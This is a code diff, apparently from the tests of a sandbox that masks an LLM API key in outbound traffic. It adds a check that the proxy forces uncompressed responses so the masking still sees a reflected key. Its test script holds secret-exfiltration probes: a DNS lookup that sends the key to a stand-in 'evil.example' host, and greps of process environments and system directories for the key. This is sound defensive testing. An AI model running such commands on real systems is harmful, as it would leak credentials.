@@ -169,7 +169,7 @@ curl -sS -m 10 -H "x-api-key: $LLM_KEY" http://cdn.allowed.example:9080/plain
 curl -sS -m 10 --cacert /world/ca.pem -H "x-api-key: $LLM_KEY" https://cdn.allowed.example:9443/otherhost
 curl -sS -m 10 --data "k=$LLM_KEY" https://web.allowed.example:9443/inbody
 getent hosts "$LLM_KEY.evil.example" >/dev/null
-curl -sS -m 10 -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/reflect
+curl -sS -m 10 --compressed -H "x-api-key: $LLM_KEY" https://web.allowed.example:9443/reflect
 git clone -q https://web.allowed.example/repo.git /tmp/repo && echo "git=$(cat /tmp/repo/README)"
 echo "found=$( (env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline) 2>/dev/null | tr '\0' '\n' | grep -c '{pat}')"
 echo "files=$(grep -rIl '{pat}' /etc /sandbox /tmp /root /home /run /var /world 2>/dev/null | wc -l)"
@@ -213,6 +213,10 @@ echo "bundle=$SSL_CERT_FILE $(grep -c 'BEGIN CERTIFICATE' $SSL_CERT_FILE)"
     // A server reflecting the key hands the sandbox asterisks.
     let stars = "*".repeat(key.len());
     assert!(out.contains(&format!("reflected {stars}\n")), "{out}");
+    // Asked uncompressed, so the mask sees what the server sends.
+    let reflect = echo.request("/reflect");
+    assert!(reflect.contains("Accept-Encoding: identity\n"), "{reflect}");
+    assert!(!reflect.contains("gzip"), "{reflect}");
     // git (many requests, one connection each) trusts the sandbox CA with no flags.
     assert!(out.contains("git=cloned through nsbox\n"), "{out}");
     assert!(out.contains("bundle=/etc/nsbox-ca-bundle.pem "), "{out}");
